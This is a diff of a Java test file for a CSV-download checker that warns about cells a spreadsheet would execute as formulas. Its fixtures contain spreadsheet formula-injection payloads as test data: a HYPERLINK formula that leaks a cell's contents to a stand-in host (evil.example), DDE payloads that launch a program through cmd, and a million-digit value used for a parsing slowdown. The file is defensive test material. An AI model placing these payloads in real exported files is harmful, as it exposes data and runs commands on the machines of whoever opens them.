@@ -80,7 +80,7 @@ class DownloadsTest {
         Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv", "sep.csv", "lenient.csv");
         f.write(DIR + "data.csv", "name,link\nok,1\nleak,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"x\"\")\"\ncalc,-2+3+cmd|' /C calc'!A0\n"
                 + "sum,@SUM(1+1)*cmd|' /C calc'!A0\nspace, =1+1\n");
-        f.write(DIR + "semi.csv", "name;value\nx;=1+1\n");
+        f.write(DIR + "semi.csv", "name;value\nx;=1+1\n+7,x\n");
         f.writeBytes(DIR + "latin.csv", "name\ncaf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
         f.write(DIR + "broken.csv", "a,b\n\"unclosed,1\n");
         f.write(DIR + "sep.csv", "sep=|\nname|value\nx|=HYPERLINK(\"http://evil.example/?leak\")\n");
@@ -91,11 +91,15 @@ class DownloadsTest {
         has(m, DIR + "data.csv:4: the cell `-2+3+cmd|' /C calc'!A0` starts with `-`");
         has(m, DIR + "data.csv:5: the cell `@SUM(1+1)*cmd|' /C calc'!A0` starts with `@`");
         has(m, DIR + "data.csv:6: the cell `=1+1` starts with `=`");
-        has(m, DIR + "semi.csv:2: the cell `=1+1` starts with `=`");
+        // Read with semicolons, the cell is told as such: read with commas, the editor sees other cells (a new user's trial: `+7,x`).
+        String semicolons = " (read with semicolons between cells, as a spreadsheet set to a language whose decimal mark is a comma reads the file)";
+        has(m, DIR + "semi.csv:2: the cell `=1+1`" + semicolons + " starts with `=`");
+        has(m, DIR + "semi.csv:3: the cell `+7,x`" + semicolons + " starts with `+`: a spreadsheet opening the download runs it as a formula"
+                + " (it may fetch an address or start a program) (write the value itself (a number without its `+`);");
         has(m, DIR + "latin.csv: is not UTF-8 text (save the table as \"CSV UTF-8\"");
         has(m, DIR + "broken.csv: is not a well-formed CSV table");
         has(m, DIR + "sep.csv:1: the first line `sep=|` chooses the separator for Excel");
-        has(m, DIR + "lenient.csv:2: the cell `=HYPERLINK(\"http://evil.example/\")` starts with `=`");
+        has(m, DIR + "lenient.csv:2: the cell `=HYPERLINK(\"http://evil.example/\")`" + semicolons + " starts with `=`");
         // A sign before a run of digits longer than any number a spreadsheet keeps is not read as one
         // (an attacker's trial: BigDecimal read a million digits in 26 s, each of three separators).
         f.write(DIR + "data.csv", "a,b\n1,+" + "1".repeat(1_000_000) + "\n2,-12.5\n");
